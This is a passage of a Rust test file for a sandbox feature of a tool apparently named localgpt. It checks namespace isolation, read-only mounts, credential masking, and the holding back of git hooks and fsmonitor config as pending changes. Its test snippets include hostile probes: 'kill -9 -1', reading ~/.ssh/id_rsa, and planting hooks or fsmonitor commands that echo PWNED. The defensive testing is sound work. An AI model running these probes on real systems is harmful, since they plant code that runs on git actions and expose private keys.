//! Level-specific behaviour: what the Full level's namespaces and mounts buy (checked from
//! outside, with the bare run escaping), the fallback to Standard when user namespaces are
//! blocked, and the death of the parent killing the whole tree.

mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use support::*;

/// The level the suite runs at: forced by `LOCALGPT_TEST_LEVEL`, else the best available.
fn full_or_skip(test: &str, w: &World) -> bool {
    let lvl = suite_level(w);
    if lvl != "full" {
        skip(test, &format!("the suite runs at level {lvl:?}, not full"));
        return false;
    }
    true
}

#[test]
fn full_level_hides_host_processes_network_and_tmp() {
    let w = World::new();
    if !full_or_skip("full_level_hides_host_processes_network_and_tmp", &w) {
        return;
    }
    let mut canary = CanaryProcess::spawn();
    let token = unique_token();
    let snippet = format!(
        "echo {STARTED}; ps -e -o pid= | wc -l; cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '; \
         echo x > /tmp/{token}; hostname; hostname lg-renamed-{token} 2>/dev/null; kill -9 -1; echo after"
    );
    let o = w.sandboxed(&snippet);
    assert!(o.stdout.contains(STARTED), "{}", o.describe());
    let lines: Vec<&str> = o.stdout.lines().collect();
    let procs: usize = lines[1].trim().parse().expect("process count");
    assert!(procs <= 6, "ps shows {procs} processes: host processes are visible\n{}", o.describe());
    assert_eq!(lines[2], "lo", "only loopback in the network namespace\n{}", o.describe());
    assert!(!lines[3..].iter().any(|l| l.contains("eth") || l.contains("ens")), "{}", o.describe());
    // The UTS namespace keeps the host's name (tools resolve it through /etc/hosts) and a
    // rename inside cannot reach the host.
    let host = std::process::Command::new("hostname").output().map(|h| String::from_utf8_lossy(&h.stdout).trim().to_string()).unwrap_or_default();
    assert_eq!(lines.get(3).copied(), Some(host.as_str()), "hostname is the host's\n{}", o.describe());
    let after = std::process::Command::new("hostname").output().map(|h| String::from_utf8_lossy(&h.stdout).trim().to_string()).unwrap_or_default();
    assert_eq!(after, host, "a rename inside the sandbox changed the host's hostname");
    assert!(!std::path::Path::new(&format!("/tmp/{token}")).exists(), "a /tmp file leaked to the host's /tmp");
    assert!(canary.alive(), "kill -9 -1 inside killed a process outside");
    // Bare, the same ps sees the host and /tmp is the host's (the probe can escape).
    let b = w.bare(&format!("ps -e -o pid= | wc -l; echo x > /tmp/{token}"));
    let host_procs: usize = b.stdout.lines().next().unwrap_or("0").trim().parse().unwrap_or(0);
    assert!(host_procs > procs, "bare ps sees {host_procs} processes, sandboxed {procs}");
    assert!(std::path::Path::new(&format!("/tmp/{token}")).exists());
    let _ = fs::remove_file(format!("/tmp/{token}"));
}

#[test]
fn full_level_makes_outside_read_only_and_hides_credentials() {
    let w = World::new();
    if !full_or_skip("full_level_makes_outside_read_only_and_hides_credentials", &w) {
        return;
    }
    let canary = w.outside.join("canary.txt");
    let mode_before = fs::metadata(&canary).unwrap().permissions().mode();
    let key = w.home.join(".ssh/id_rsa");
    let snippet = format!(
        "echo {STARTED}; chmod 000 {c} && echo CHMOD-OK; stat -c %s {k} && echo STAT-OK; ls -A {ssh} | wc -l",
        c = sh_quote(&canary),
        k = sh_quote(&key),
        ssh = sh_quote(w.home.join(".ssh")),
    );
    // Granted for reading: visible, and read-only.
    let outside = w.outside.display().to_string();
    let o = w.sandboxed_with(&["--allow-read", &outside], &snippet);
    assert!(o.stdout.contains(STARTED), "{}", o.describe());
    assert!(!o.stdout.contains("CHMOD-OK"), "{}", o.describe());
    assert!(o.stderr.contains("Read-only file system"), "chmod must fail with EROFS\n{}", o.describe());
    // Not granted: it does not exist in the command's fresh root at all.
    let gone = w.sandboxed(&format!("echo {STARTED}; chmod 000 {c} && echo CHMOD-OK; ls {d} && echo LS-OK", c = sh_quote(&canary), d = sh_quote(&w.outside)));
    assert!(gone.stdout.contains(STARTED), "{}", gone.describe());
    assert!(!gone.stdout.contains("CHMOD-OK") && !gone.stdout.contains("LS-OK"), "{}", gone.describe());
    assert!(gone.stderr.contains("No such file or directory"), "outside the grants nothing exists\n{}", gone.describe());
    assert!(!o.stdout.contains("STAT-OK"), "stat of a masked credential must fail\n{}", o.describe());
    assert_eq!(o.stdout.lines().last(), Some("0"), "~/.ssh looks empty\n{}", o.describe());
    assert_eq!(fs::metadata(&canary).unwrap().permissions().mode(), mode_before, "mode changed outside");
    assert!(w.canary_intact());
    // Bare: both work.
    let b = w.bare(&format!("stat -c %s {} && echo STAT-OK; chmod 600 {c} && echo CHMOD-OK", sh_quote(&key), c = sh_quote(&canary)));
    assert!(b.stdout.contains("STAT-OK") && b.stdout.contains("CHMOD-OK"), "{}", b.describe());
    fs::set_permissions(&canary, fs::Permissions::from_mode(mode_before)).unwrap();
}

#[test]
fn full_level_protects_git_hooks_and_config_but_commit_works() {
    let w = World::new();
    if !full_or_skip("full_level_protects_git_hooks_and_config_but_commit_works", &w) {
        return;
    }
    let init = w.bare("git init -q . && git -c user.name=a -c user.email=b@c commit -q --allow-empty -m init && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let config_before = fs::read(w.ws.join(".git/config")).unwrap();
    let snippet = format!(
        "echo {STARTED}; echo 'touch /tmp/pwned' > .git/hooks/pre-commit && echo HOOK-WRITTEN; \
         git config core.fsmonitor 'touch /tmp/pwned' && echo CONFIG-WRITTEN; \
         echo data > f && git add f && git -c user.name=a -c user.email=b@c commit -q -m work && echo COMMITTED"
    );
    let o = w.sandboxed(&snippet);
    assert!(o.stdout.contains(STARTED), "{}", o.describe());
    // The command works on private copies: the writes succeed there…
    assert!(o.stdout.contains("HOOK-WRITTEN") && o.stdout.contains("CONFIG-WRITTEN"), "{}", o.describe());
    assert!(o.stdout.contains("COMMITTED"), "git commit must keep working\n{}", o.describe());
    // …and, seen from outside, neither the hook nor the executable key reached the real files:
    // both are pending changes; the commit did.
    assert!(!w.ws.join(".git/hooks/pre-commit").exists(), "hook written to the real .git");
    assert_eq!(fs::read(w.ws.join(".git/config")).unwrap(), config_before, ".git/config changed");
    let log = w.bare("git log --oneline | wc -l");
    assert_eq!(log.stdout.trim(), "2", "the commit is in the repository\n{}", log.describe());
    let pending = parse_one_json(&run(w.localgpt_cmd(&["sandbox", "pending", "--json"]), "pending"));
    let targets: Vec<String> = pending["pending"].as_array().unwrap().iter().map(|c| c["target"].as_str().unwrap_or("").to_string()).collect();
    assert!(targets.iter().any(|t| t.ends_with(".git/hooks/pre-commit")) && targets.iter().any(|t| t.ends_with(".git/config")), "{pending}");
    // Bare, the hook write works (so the probe can escape).
    let b = w.bare("echo true > .git/hooks/pre-commit && echo HOOK-WRITTEN");
    assert!(b.stdout.contains("HOOK-WRITTEN"), "{}", b.describe());
}

/// `kill -9` of the CLI after its command committed and wrote a hook: at Full the commit is in
/// the run's private copy of `.git` (not yet reviewed), at Standard the hook is live in the real
/// `.git` (reviewed in place after the run, which never came); `localgpt sandbox pending`
/// reviews what the killed run left from its journal — the commit lands, the hook is taken back
/// and kept pending, and it says so. Checked from outside with the host's git and the hooks
/// directory; bare, the same hook lands and stays.
#[test]
fn a_run_killed_after_a_commit_loses_nothing_and_leaves_no_hook() {
    let w = World::new();
    let init = w.bare("git init -q . && git -c user.name=a -c user.email=b@c commit -q --allow-empty -m init && echo data > f && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let snippet = "git add f && git -c user.name=a -c user.email=b@c commit -q -m killed && printf '#!/bin/sh\\ntrue\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && touch marker && sleep 30";
    let mut cmd = w.sandbox_cmd(&["--timeout", "60"], &["bash", "-c", snippet]);
    cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().expect("spawn");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !w.ws.join("marker").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(w.ws.join("marker").exists(), "the command did not commit in time");
    child.kill().expect("kill -9");
    let _ = child.wait();
    let log = || w.bare("git log --format=%s").stdout;
    let hook = w.ws.join(".git/hooks/post-checkout");
    if suite_level(&w) == "full" {
        assert_eq!(log(), "init\n", "the commit is in the private copy until reviewed");
        assert!(!hook.exists(), "the hook is in the private copy");
    } else {
        assert!(hook.exists(), "at Standard the hook is written in place, live until reviewed");
    }
    let o = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending");
    assert!(o.stderr.contains("killed before its review"), "{}", o.describe());
    assert_eq!(log(), "killed\ninit\n", "the killed run's commit is in the repository\n{}", o.describe());
    assert!(!hook.exists(), "the killed run's hook was taken back\n{}", o.describe());
    assert!(o.stdout.contains(".git/hooks/post-checkout"), "the hook is a pending change\n{}", o.describe());
    // The next run in the workspace does the same, and says so.
    let mut cmd = w.sandbox_cmd(&["--timeout", "60"], &["bash", "-c", "echo x > g && git add g && git -c user.name=a -c user.email=b@c commit -q -m killed-again && touch marker2 && sleep 30"]);
    cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().expect("spawn");
    let deadline = Instant::now() + Duration::from_secs(30);
    while !w.ws.join("marker2").exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    child.kill().expect("kill -9");
    let _ = child.wait();
    let next = w.sandboxed("true");
    assert!(next.stdout.contains("killed before its review") || next.stderr.contains("killed before its review"), "{}", next.describe());
    assert_eq!(log(), "killed-again\nkilled\ninit\n", "{}", next.describe());
    // Bare, the same hook lands and stays.
    let b = w.bare("printf '#!/bin/sh\\ntrue\\n' > .git/hooks/post-checkout && echo HOOK-WRITTEN");
    assert!(b.stdout.contains("HOOK-WRITTEN") && hook.exists(), "{}", b.describe());
}

#[test]
fn blocked_user_namespaces_fall_back_to_standard_and_say_why() {
    // An outer minimal-level sandbox (seccomp denies unshare, as container runtimes do) makes
    // the inner helper's unshare fail: the inner run (at level auto, whatever level the suite
    // forces through its config) must fall back to Standard, say why, and still confine;
    // `--require full` must refuse.
    let w = World::new();
    let status = parse_one_json(&run(w.localgpt_cmd(&["sandbox", "status", "--json"]), "status"));
    if !status["available_levels"].as_array().is_some_and(|a| a.iter().any(|l| l == "full")) {
        skip("blocked_user_namespaces_fall_back_to_standard_and_say_why", "Full level is not available here");
        return;
    }
    let bin = localgpt_bin();
    let inner = format!(
        "XDG_CONFIG_HOME=/nonexistent-lg-xdg {b} sandbox run --json --workspace {ws} -- 'echo INNER-RAN; cat {k}'",
        b = sh_quote(&bin),
        ws = sh_quote(&w.ws),
        k = sh_quote(w.home.join(".ssh/id_rsa")),
    );
    let o = w.sandboxed_with(&["--level", "minimal", "--quiet"], &inner);
    let v = parse_one_json(&o);
    assert_eq!(v["level"], "standard", "{}", o.describe());
    assert!(v["stdout"].as_str().unwrap_or("").contains("INNER-RAN"), "{}", o.describe());
    assert!(!v["stdout"].as_str().unwrap_or("").contains(SSH_SECRET), "still confined\n{}", o.describe());
    let warns = v["warnings"].to_string();
    assert!(warns.contains("Full level unavailable") && warns.contains("unshare"), "the reason is shown: {warns}");
    let req = w.sandboxed_with(
        &["--level", "minimal", "--quiet"],
        &format!(
            "XDG_CONFIG_HOME=/nonexistent-lg-xdg {b} sandbox run --quiet --require full --workspace {ws} -- 'echo REQ-RAN'; echo rc=$?",
            b = sh_quote(&bin),
            ws = sh_quote(&w.ws)
        ),
    );
    assert!(!req.stdout.contains("REQ-RAN"), "--require full ran the command\n{}", req.describe());
    assert!(req.stdout.contains("rc=1"), "{}", req.describe());
}

#[test]
fn parent_death_kills_the_whole_tree() {
    let w = World::new();
    let token = format!("1{}.5", std::process::id() % 100_000);
    let mut cmd = w.sandbox_cmd(&["--quiet"], &[&format!("setsid sleep {token} & (sleep {token} &) ; sleep {token}")]);
    cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut child = cmd.spawn().expect("spawn");
    let count = || -> usize {
        fs::read_dir("/proc")
            .unwrap()
            .filter_map(Result::ok)
            .filter(|e| {
                fs::read(e.path().join("cmdline"))
                    .map(|c| String::from_utf8_lossy(&c).replace('\0', " ").trim() == format!("sleep {token}"))
                    .unwrap_or(false)
            })
            .count()
    };
    let start = Instant::now();
    while count() < 3 && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(count(), 3, "the three sleeps started");
    child.kill().expect("kill the runner");
    let _ = child.wait();
    let start = Instant::now();
    while count() > 0 && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(count(), 0, "processes survived the death of the runner");
}

/// Root only, and run alone (ci/test runs ignored tests serially after the rest): sets the
/// machine-wide `user.max_user_namespaces` to 0 and restores it.
#[test]
#[ignore = "changes a machine-wide sysctl; ci/test runs it alone, as root"]
fn max_user_namespaces_zero_runs_at_standard_and_says_why() {
    const SYSCTL: &str = "/proc/sys/user/max_user_namespaces";
    if !is_root() {
        skip("max_user_namespaces_zero_runs_at_standard_and_says_why", "needs root to change the sysctl");
        return;
    }
    let before = fs::read_to_string(SYSCTL).expect("read sysctl");
    struct Restore(String);
    impl Drop for Restore {
        fn drop(&mut self) {
            let _ = fs::write(SYSCTL, &self.0);
        }
    }
    let _restore = Restore(before);
    if let Err(e) = fs::write(SYSCTL, "0") {
        // e.g. root without CAP_SYS_RESOURCE (as on this project's CI machines).
        skip("max_user_namespaces_zero_runs_at_standard_and_says_why", &format!("cannot set {SYSCTL}: {e}"));
        return;
    }
    let w = World::new();
    let status = parse_one_json(&run(w.localgpt_cmd(&["sandbox", "status", "--json"]), "status"));
    assert_eq!(status["level"], "standard", "{status:#}");
    assert!(status["warnings"].to_string().contains("max_user_namespaces"), "{status:#}");
    let (o, v) = w.sandboxed_json(&[], &format!("echo {STARTED}; cat ~/.ssh/id_rsa"));
    assert_eq!(v["level"], "standard", "{}", o.describe());
    assert!(v["warnings"].to_string().contains("user.max_user_namespaces = 0"), "{v:#}");
    assert!(v["stdout"].as_str().unwrap_or("").contains(STARTED));
    assert!(!v["stdout"].as_str().unwrap_or("").contains(SSH_SECRET));
    let r = w.sandboxed_with(&["--require", "full"], &format!("echo {STARTED}"));
    assert_eq!(r.code(), Some(125), "{}", r.describe());
    assert!(!r.stdout.contains(STARTED));
    assert!(r.stderr.contains("max_user_namespaces"), "the refusal names the reason\n{}", r.describe());
}

/// Issue 12's must-show: in a plain `git init` workspace at Full, ordinary config edits reach
/// the real `.git/config`; an executable key and a new hook do not, and are pending; applying
/// one pending change writes it, dropping one removes it.
#[test]
fn full_level_git_config_edits_reach_the_repo_and_code_running_ones_are_pending() {
    let w = World::new();
    if !full_or_skip("full_level_git_config_edits_reach_the_repo_and_code_running_ones_are_pending", &w) {
        return;
    }
    let init = w.bare("git init -q -b main . && git -c user.name=a -c user.email=b@c commit -q --allow-empty -m init && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let o = w.sandboxed(
        "git branch -m main trunk && git remote add o ../x && git config user.name x && \
         git config core.fsmonitor 'touch /tmp/pwned' && printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout && \
         chmod +x .git/hooks/post-checkout && echo DONE",
    );
    assert!(o.stdout.contains("DONE"), "{}", o.describe());
    let cfg = fs::read_to_string(w.ws.join(".git/config")).unwrap();
    assert!(cfg.contains("name = x") && cfg.contains("[remote \"o\"]"), "safe edits must reach the real config:\n{cfg}");
    assert!(!cfg.contains("fsmonitor"), "the executable key reached the real config:\n{cfg}");
    assert!(!w.ws.join(".git/hooks/post-checkout").exists(), "the hook reached the real .git");
    let branch = w.bare("git branch --show-current");
    assert_eq!(branch.stdout.trim(), "trunk", "{}", branch.describe());
    let list = || parse_one_json(&run(w.localgpt_cmd(&["sandbox", "pending", "--json"]), "pending"));
    let pending = list();
    let items = pending["pending"].as_array().unwrap().clone();
    let id_of = |suffix: &str| {
        items.iter().find(|c| c["target"].as_str().is_some_and(|t| t.ends_with(suffix))).and_then(|c| c["id"].as_str()).map(str::to_string)
    };
    let (cfg_id, hook_id) = (id_of(".git/config").expect("config pending"), id_of(".git/hooks/post-checkout").expect("hook pending"));
    // The human listing names both.
    let text = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending list");
    assert!(text.stdout.contains("core.fsmonitor") && text.stdout.contains("post-checkout"), "{}", text.describe());
    // Apply the config change, drop the hook.
    let a = run(w.localgpt_cmd(&["sandbox", "pending", "apply", &cfg_id]), "pending apply");
    assert_eq!(a.code(), Some(0), "{}", a.describe());
    assert!(fs::read_to_string(w.ws.join(".git/config")).unwrap().contains("fsmonitor = touch /tmp/pwned"));
    // Applying never writes through a link: with .git/hooks made a link to a directory
    // elsewhere (as a later run could leave it), applying the hook fails, nothing lands there,
    // and the change stays pending.
    let elsewhere = w.root.join("elsewhere");
    fs::create_dir_all(&elsewhere).unwrap();
    let hooks = w.ws.join(".git/hooks");
    fs::rename(&hooks, w.ws.join(".git/hooks.real")).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &hooks).unwrap();
    let via_link = run(w.localgpt_cmd(&["sandbox", "pending", "apply", &hook_id]), "pending apply through a link");
    assert_ne!(via_link.code(), Some(0), "applied through a link{}", via_link.describe());
    assert!(!elsewhere.join("post-checkout").exists(), "the hook was written through the link");
    fs::remove_file(&hooks).unwrap();
    fs::rename(w.ws.join(".git/hooks.real"), &hooks).unwrap();
    let d = run(w.localgpt_cmd(&["sandbox", "pending", "drop", &hook_id]), "pending drop");
    assert_eq!(d.code(), Some(0), "{}", d.describe());
    assert!(!w.ws.join(".git/hooks/post-checkout").exists());
    assert!(list()["pending"].as_array().unwrap().is_empty());
    let bad = run(w.localgpt_cmd(&["sandbox", "pending", "apply", "no-such-id"]), "pending apply unknown");
    assert_eq!(bad.code(), Some(2), "{}", bad.describe());
}

/// Full level: loopback inside the sandbox's own network namespace works for a local server and
/// its client, and that server is unreachable from the host (checked from outside while it
/// runs); bare, the same server is reachable.
#[test]
fn full_level_loopback_is_the_sandboxs_own() {
    let w = World::new();
    if !full_or_skip("full_level_loopback_is_the_sandboxs_own", &w) {
        return;
    }
    let Some(py) = python3_or_skip("full_level_loopback_is_the_sandboxs_own") else { return };
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let script = w.ws_file("srv.py", &format!(
        "import socket, threading, time, urllib.request, http.server\n\
         srv = http.server.HTTPServer(('127.0.0.1', {port}), http.server.SimpleHTTPRequestHandler)\n\
         threading.Thread(target=srv.serve_forever, daemon=True).start()\n\
         print(urllib.request.urlopen('http://127.0.0.1:{port}/srv.py').status, flush=True)\n\
         open('READY', 'w').close()\n\
         time.sleep(3)\n"
    ));
    let run_it = |sandboxed: bool| {
        let _ = fs::remove_file(w.ws.join("READY"));
        let mut cmd = if sandboxed { w.sandbox_cmd(&["--quiet"], &[&format!("{} {}", py.display(), script.display())]) } else { w.bare_cmd(&format!("{} {}", py.display(), script.display())) };
        cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
        let child = cmd.spawn().unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        while !w.ws.join("READY").exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let reachable = std::net::TcpStream::connect(("127.0.0.1", port)).is_ok();
        let out = child.wait_with_output().unwrap();
        (reachable, String::from_utf8_lossy(&out.stdout).to_string(), String::from_utf8_lossy(&out.stderr).to_string())
    };
    let (bare_reachable, bare_out, _) = run_it(false);
    assert!(bare_reachable && bare_out.contains("200"), "bare: the server should be reachable ({bare_out})");
    let (reachable, out, err) = run_it(true);
    assert!(out.contains("200"), "the local server and its client must work inside: {out} {err}");
    assert!(!reachable, "the sandbox's server was reachable from the host's loopback");
}

/// The directories the walk service of the world's user watches (`inotify` watches counted in
/// its descriptors' fdinfo), found by its socket's peer: `None` when no service serves the world.
fn walk_service_watches(w: &World) -> Option<(i32, usize)> {
    let dir = w.home.join(".local/state/localgpt/sandbox/walks");
    let sock = fs::read_dir(&dir).ok()?.flatten().map(|e| e.path()).find(|p| p.extension().is_some_and(|x| x == "sock"))?;
    let s = std::os::unix::net::UnixStream::connect(&sock).ok()?;
    let mut cred = libc::ucred { pid: 0, uid: 0, gid: 0 };
    let mut len = std::mem::size_of::<libc::ucred>() as libc::socklen_t;
    // SAFETY: getsockopt into a ucred of the length given.
    let rc = unsafe { libc::getsockopt(std::os::fd::AsRawFd::as_raw_fd(&s), libc::SOL_SOCKET, libc::SO_PEERCRED, std::ptr::addr_of_mut!(cred).cast(), &mut len) };
    drop(s);
    if rc != 0 {
        return None;
    }
    let mut n = 0;
    for e in fs::read_dir(format!("/proc/{}/fdinfo", cred.pid)).ok()?.flatten() {
        n += fs::read_to_string(e.path()).unwrap_or_default().lines().filter(|l| l.starts_with("inotify wd:")).count();
    }
    Some((cred.pid, n))
}

/// With the walk service on (the default; set here all the same), a run in a workspace of a few
/// hundred directories is answered by the service (it watches them: checked in its fdinfo), and
/// what the host changes between runs and the command during one is seen as without it: a
/// repository the host makes deep in the tree after the service watched it is protected in the
/// next run (a hook written into it does not land), a repository the command makes is taken back
/// after the run (kept pending). Checked from outside: the hooks on the host, `sandbox pending`.
/// Bare, both hooks land.
#[test]
fn the_walk_service_sees_what_changed_between_runs_and_during_one() {
    let w = World::new();
    let init = w.bare("for i in $(seq 1 300); do mkdir -p t/d$i/e; done; git init -q . && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let with_service = |snippet: &str| {
        let mut cmd = w.sandbox_cmd(&[], &["bash", "-c", snippet]);
        cmd.env("LOCALGPT_SANDBOX_WALK_SERVICE", "1").env("LOCALGPT_SANDBOX_WALK_SERVICE_IDLE", "30");
        run(cmd, snippet)
    };
    // The first run walks in the process and starts the service; the second is its first walk.
    for _ in 0..2 {
        let o = with_service("true");
        assert_eq!(o.code(), Some(0), "{}", o.describe());
        let deadline = Instant::now() + Duration::from_secs(10);
        while walk_service_watches(&w).is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    let (pid, watches) = walk_service_watches(&w).expect("the walk service serves the world");
    assert!(watches >= 300, "the service watches {watches} directories, not the workspace's");
    // The host makes a repository deep in the tree (depth 4: t/d7/e/sub/.git).
    let host = w.bare("git init -q t/d7/e/sub && echo ok");
    assert!(host.stdout.contains("ok"), "{}", host.describe());
    let hook = w.ws.join("t/d7/e/sub/.git/hooks/pre-commit");
    let o = with_service("printf '#!/bin/sh\\necho PWNED\\n' > t/d7/e/sub/.git/hooks/pre-commit; chmod +x t/d7/e/sub/.git/hooks/pre-commit; true");
    assert!(!hook.exists(), "a hook written into the repository the host made between runs landed\n{}", o.describe());
    // The command makes a repository and its hook.
    let made = w.ws.join("t/d9/e/new/.git/hooks/post-checkout");
    let o = with_service("git init -q t/d9/e/new && printf '#!/bin/sh\\necho PWNED\\n' > t/d9/e/new/.git/hooks/post-checkout && chmod +x t/d9/e/new/.git/hooks/post-checkout && echo MADE");
    assert!(o.stdout.contains("MADE"), "{}", o.describe());
    assert!(!made.exists(), "the hook of a repository made during the run landed\n{}", o.describe());
    let pending = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending");
    assert!(pending.stdout.contains("t/d9/e/new/.git"), "the made repository is a pending change\n{}", pending.describe());
    // The service answered those runs (it still serves, and watches the new directories too).
    let (pid2, watches2) = walk_service_watches(&w).expect("the walk service still serves the world");
    assert_eq!(pid, pid2, "the same service answered");
    assert!(watches2 > watches, "the service watches the directories made since ({watches} → {watches2})");
    // Bare, both hooks land.
    let b = w.bare("printf '#!/bin/sh\\necho x\\n' > t/d7/e/sub/.git/hooks/pre-commit && git init -q t/d9/e/new2 && printf 'x' > t/d9/e/new2/.git/hooks/post-checkout && echo LANDED");
    assert!(b.stdout.contains("LANDED") && hook.exists() && w.ws.join("t/d9/e/new2/.git/hooks/post-checkout").exists(), "{}", b.describe());
    // SAFETY: a signal to the world's own service.
    unsafe { libc::kill(pid, libc::SIGTERM) };
}

/// A directory the walk cannot read (its owner took the read permission away: mode 0311, still
/// entered by name, as git enters it) hides nothing, with the walk service on: the service does
/// not answer for a root while it cannot read one of its directories (it could neither know nor
/// watch what is in it), and the run walks it itself. At launch such a directory is said ("NOT
/// PROTECTED"); after a run, one of the user's is given its owner's reading back and read. A
/// repository the command makes inside one it made unreadable, and one it makes inside one the
/// host made unreadable between runs, are taken back (kept pending): their hooks do not land.
/// Checked from outside: the hooks on the host, the directory's mode, `sandbox pending`. Bare,
/// both hooks land. (As root every directory is readable: the same checks hold, through the
/// ordinary walk.)
#[test]
fn a_directory_made_unreadable_hides_no_repository_from_the_review() {
    let w = World::new();
    let root = unsafe { libc::geteuid() } == 0;
    let init = w.bare("for i in $(seq 1 300); do mkdir -p t/d$i/e; done; git init -q . && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let with_service = |snippet: &str| {
        let mut cmd = w.sandbox_cmd(&[], &["bash", "-c", snippet]);
        cmd.env("LOCALGPT_SANDBOX_WALK_SERVICE", "1").env("LOCALGPT_SANDBOX_WALK_SERVICE_IDLE", "30");
        run(cmd, snippet)
    };
    for _ in 0..2 {
        assert_eq!(with_service("true").code(), Some(0));
        let deadline = Instant::now() + Duration::from_secs(10);
        while walk_service_watches(&w).is_none() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    let (pid, _) = walk_service_watches(&w).expect("the walk service serves the world");
    let mode = |p: &str| fs::symlink_metadata(w.ws.join(p)).map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777).unwrap();
    // The command makes the repository, then hides it.
    let hook = "printf '#!/bin/sh\\necho PWNED\\n' > $R/.git/hooks/pre-commit && chmod +x $R/.git/hooks/pre-commit";
    let o = with_service(&format!("R=t/d9/hid/child && git init -q $R && {hook} && chmod 0311 t/d9/hid && echo MADE"));
    assert!(o.stdout.contains("MADE"), "{}", o.describe());
    assert!(!w.ws.join("t/d9/hid/child/.git/hooks/pre-commit").exists(), "the hook of a repository hidden in a directory made unreadable landed\n{}", o.describe());
    if !root {
        assert_eq!(mode("t/d9/hid"), 0o711, "the directory's owner reading is given back\n{}", o.describe());
        assert!(o.stderr.contains("t/d9/hid: its read permission had been taken away"), "said\n{}", o.describe());
    }
    // The host takes a directory's read permission away between runs: said at launch; the
    // command makes a repository in it all the same.
    fs::set_permissions(w.ws.join("t/d5"), std::os::unix::fs::PermissionsExt::from_mode(0o311)).unwrap();
    let o = with_service(&format!("R=t/d5/x && git init -q $R && {hook} && echo MADE"));
    assert!(o.stdout.contains("MADE"), "{}", o.describe());
    assert!(!w.ws.join("t/d5/x/.git/hooks/pre-commit").exists(), "the hook of a repository made in a directory unreadable at launch landed\n{}", o.describe());
    if !root {
        assert!(o.stderr.contains("NOT PROTECTED") && o.stderr.contains("t/d5 (not readable by you"), "said at launch\n{}", o.describe());
    }
    let pending = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending");
    assert!(pending.stdout.contains("t/d9/hid/child/.git") && pending.stdout.contains("t/d5/x/.git"), "both repositories are pending changes\n{}", pending.describe());
    // The service answers again once it can read the whole root (the same one: it was not
    // stopped by what it could not read).
    assert_eq!(with_service("true").code(), Some(0));
    let (pid2, _) = walk_service_watches(&w).expect("the walk service still serves the world");
    assert_eq!(pid, pid2, "the same service");
    // Bare, both hooks land.
    let b = w.bare(&format!("chmod 0755 t/d9/hid && R=t/d9/hid/c2 && git init -q $R && {hook} && chmod 0755 t/d5 && R=t/d5/x2 && git init -q $R && {hook} && echo LANDED"));
    assert!(b.stdout.contains("LANDED") && w.ws.join("t/d9/hid/c2/.git/hooks/pre-commit").exists() && w.ws.join("t/d5/x2/.git/hooks/pre-commit").exists(), "{}", b.describe());
    // SAFETY: a signal to the world's own service.
    unsafe { libc::kill(pid, libc::SIGTERM) };
}

/// A hook written into the workspace's `.git/hooks` which the command then made unreadable
/// (mode 0311: git still runs a hook it finds by name) is neither applied nor lost: at every
/// level it is not on the host afterwards and `sandbox pending` keeps it. (At Full the review
/// reads the private copy's upper layer, where the unprivileged user met the unreadable
/// directory and dropped the hook unseen: not applied, but lost. As root every directory is
/// readable.) Bare, the hook lands.
#[test]
fn a_hook_in_a_directory_made_unreadable_is_kept_pending_not_lost() {
    let w = World::new();
    let init = w.bare("git init -q . && echo ok");
    assert!(init.stdout.contains("ok"), "{}", init.describe());
    let snippet = "printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && chmod 0311 .git/hooks && echo MADE";
    let o = w.sandboxed(snippet);
    assert!(o.stdout.contains("MADE"), "{}", o.describe());
    let hook = w.ws.join(".git/hooks/pre-commit");
    assert!(fs::symlink_metadata(&hook).is_err(), "the hook landed\n{}", o.describe());
    let pending = run(w.localgpt_cmd(&["sandbox", "pending"]), "pending");
    assert!(pending.stdout.contains(".git/hooks/pre-commit"), "the hook is kept pending, not lost\n{}\n{}", o.describe(), pending.describe());
    let b = w.bare("chmod 0755 .git/hooks; printf '#!/bin/sh\\necho x\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && chmod 0311 .git/hooks && echo LANDED");
    assert!(b.stdout.contains("LANDED") && fs::symlink_metadata(&hook).is_ok(), "{}", b.describe());
    let _ = fs::set_permissions(w.ws.join(".git/hooks"), std::os::unix::fs::PermissionsExt::from_mode(0o755));
}

/// Where the hooks run lint-staged, the walk service keeps git's listing of its configurations
/// (`guard::listing`) and gives it again while nothing changed that could change it: the
/// service watches the worktree's directories (checked in its fdinfo), a configuration the host
/// makes deeper than the walk between runs is protected in the next run (the command's change to
/// it does not land), and one the command makes in a tree the walk skips is taken back (kept
/// pending). Checked from outside: the files on the host, `sandbox pending`. Bare, both land.
#[test]
